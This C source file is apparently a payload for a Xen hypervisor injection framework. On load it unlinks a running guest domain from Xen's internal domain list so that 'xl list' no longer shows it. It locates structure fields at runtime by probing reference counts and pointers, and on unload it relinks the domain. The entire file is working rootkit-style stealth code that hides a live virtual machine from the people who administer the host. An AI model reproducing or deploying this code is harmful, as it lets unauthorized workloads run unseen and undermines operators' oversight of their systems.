/*
 * Takes a domU out of Xen's list of domains: it keeps running, and `xl list` does not show it. HIDE_DOMID says which, else the one with the
 * lowest number. Its entry in the hash by number stays, so that what it shares with dom0 goes on working. Reverting puts it back
 * where it was. It must not be destroyed before: Xen would look for it in the list, and crash.
 *
 * Where `struct domain` has its fields differs between versions, so it is found out: the reference count is what changes when
 * a reference is taken, the next domain is what is equal to dom0's successor. Load hooks run when all other CPUs wait, so that nothing else changes.
 */
#include "payload.h"

#ifndef HIDE_DOMID
#define HIDE_DOMID 0
#endif
#define DOMID_FIRST_RESERVED 0x7ff0

struct domain;
extern struct domain *domain_list;
extern struct domain *get_domain_by_id(u16 domid);

static struct domain *hidden;
static size_t next_offset;
static u8 snapshot[PAGE_BYTES];

/* `domain_id` is its first field. */
static u16 domid_of(const struct domain *domain) { return *(const u16 *)domain; }

static struct domain **next(struct domain *domain) { return (struct domain **)((u8 *)domain + next_offset); }

static void drop_references(struct domain *domain, size_t offset, u32 references)
{
    __atomic_fetch_sub((u32 *)((u8 *)domain + offset), references, __ATOMIC_SEQ_CST);
}

/* The domU with the lowest number. No reference is left. */
static struct domain *first_domu(void)
{
    struct domain *domain = NULL;
    for (u16 domid = 1; !domain && domid < DOMID_FIRST_RESERVED; domid++)
        domain = get_domain_by_id(domid);
    if (!domain)
        return NULL;
    __builtin_memcpy(snapshot, domain, sizeof(snapshot));
    get_domain_by_id(domid_of(domain));
    for (size_t offset = 0; offset < sizeof(snapshot); offset += sizeof(u32))
        if (*(u32 *)((u8 *)domain + offset) == *(u32 *)(snapshot + offset) + 1) {
            drop_references(domain, offset, 2);
            return domain;
        }
    return NULL;
}

/* The list is ordered by number: dom0 leads to the lowest. */
static int find_next_offset(struct domain *dom0, const struct domain *domu)
{
    for (next_offset = 0; next_offset < PAGE_BYTES; next_offset += sizeof(void *))
        if (*next(dom0) == domu)
            return 1;
    return 0;
}

static struct domain *before(u16 domid)
{
    struct domain *domain = domain_list;
    while (*next(domain) && domid_of(*next(domain)) < domid)
        domain = *next(domain);
    return domain;
}

static void hide(void)
{
    struct domain *domu = first_domu();
    if (!domu || !find_next_offset(domain_list, domu)) {
        SAY("no domU that could be hidden, nothing done");
        return;
    }
    u16 domid = HIDE_DOMID ? HIDE_DOMID : domid_of(domu);
    struct domain *predecessor = before(domid), *found = *next(predecessor);
    if (!found || domid_of(found) != domid) {
        SAY("there is no domain %u, nothing done", domid);
        return;
    }
    hidden = found;
    *next(predecessor) = *next(hidden);
    SAY("domain %u taken out of the list (next domain at %zu)", domid, next_offset);
}
ON_LOAD(hide);

static void show(void)
{
    if (!hidden)
        return;
    struct domain *predecessor = before(domid_of(hidden));
    *next(hidden) = *next(predecessor);
    *next(predecessor) = hidden;
    SAY("domain %u is in the list again", domid_of(hidden));
}
ON_UNLOAD(show);
